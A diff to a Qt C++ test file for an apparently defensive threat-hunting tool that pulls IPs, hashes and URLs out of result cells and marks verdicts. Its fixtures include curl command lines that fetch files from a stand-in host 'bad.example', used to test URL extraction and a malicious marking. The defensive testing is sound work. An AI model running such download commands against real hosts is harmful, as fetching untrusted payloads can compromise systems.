@@ -87,6 +87,7 @@ private Q_SLOTS:
     void timesAreLocal_data();
     void timesAreLocal();
     void resultObservables();
+    void cellsThatHoldSeveral();
     void verdictsAreAskedForWhatIsShown();
     void otherColumnsFromOtherHosts();
     void manyRows();
@@ -496,8 +497,10 @@ void TestOrbitalModels::timesAreLocal()
 void TestOrbitalModels::resultObservables()
 {
     const auto typed = [](const QString &column, const QString &value) {
-        const auto found = CellTyper::typed(column, value);
-        return found ? observableTypeName(found->type()) + u':' + found->value() : QString();
+        QStringList all;
+        for (const Observable &found : CellTyper::typed(column, value))
+            all << observableTypeName(found.type()) + u':' + found.value();
+        return all.join(u' ');
     };
     QCOMPARE(typed(u"sha256"_s, Sha256), u"sha256:"_s + Sha256);
     QCOMPARE(typed(u"remote_address"_s, u"198.51.100.23"_s), u"ip:198.51.100.23"_s);
@@ -506,7 +509,34 @@ void TestOrbitalModels::resultObservables()
     QCOMPARE(typed(u"sha256"_s, u"no hash"_s), QString());
     QCOMPARE(typed(u"pid"_s, u"6124"_s), QString());
     QCOMPARE(typed(u"remote_address"_s, u"0.0.0.0"_s), QString());
-    QCOMPARE(typed(u"cmdline"_s, u"curl http://bad.example/x -o y"_s), QString());
+    QCOMPARE(typed(u"cmdline"_s, u"curl http://bad.example/x -o y"_s), u"url:http://bad.example/x"_s);
+    QCOMPARE(typed(u"args"_s, u"--to 10.0.0.5:443 --from 198.51.100.23 --to 10.0.0.5"_s),
+             u"ip:10.0.0.5 ip:198.51.100.23"_s);
+    QCOMPARE(typed(u"notes"_s, u"seen "_s + Sha256), u"sha256:"_s + Sha256);
+    QCOMPARE(typed(u"listens"_s, u"0.0.0.0:443"_s), QString());
+    QCOMPARE(typed(u"name"_s, u"Google Chrome 131.0.6778.86"_s), QString());
+}
+
+// The menu is for all of them, the mark tells the worst, and each counts.
+void TestOrbitalModels::cellsThatHoldSeveral()
+{
+    ResultModel results(m_desk->verdicts);
+    const QAbstractItemModelTester tester(&results, QAbstractItemModelTester::FailureReportingMode::Warning);
+    OrbitalHostResult result = host(u"A"_s, {});
+    const QString command = u"curl http://good.example/x http://bad.example/y"_s;
+    result.tables = {{.label = {}, .columns = {u"cmdline"_s}, .rows = {{command}, {command}, {u"curl -V"_s}}}};
+    results.add(TypedResult::of(result));
+    const QModelIndex cell = results.index(0, 1);
+    QCOMPARE(cell.data().toString(), command);
+    const QList<Observable> held = PivotDelegate::observablesAt(cell);
+    QCOMPARE(held.size(), 2);
+    QCOMPARE(PivotDelegate::observableAt(cell), held.first());
+    QVERIFY(PivotDelegate::observablesAt(results.index(2, 1)).isEmpty());
+    QCOMPARE(results.verdictObservables(), held);
+    results.want(0, 2);
+    QTRY_COMPARE(cell.data(DispositionRole).toInt(), int(Disposition::Malicious));
+    results.add(TypedResult::of(host(u"A"_s, {{u"1"_s, u"a"_s, {}}})));
+    QVERIFY(results.verdictObservables().isEmpty());
 }
 
 void TestOrbitalModels::verdictsAreAskedForWhatIsShown()
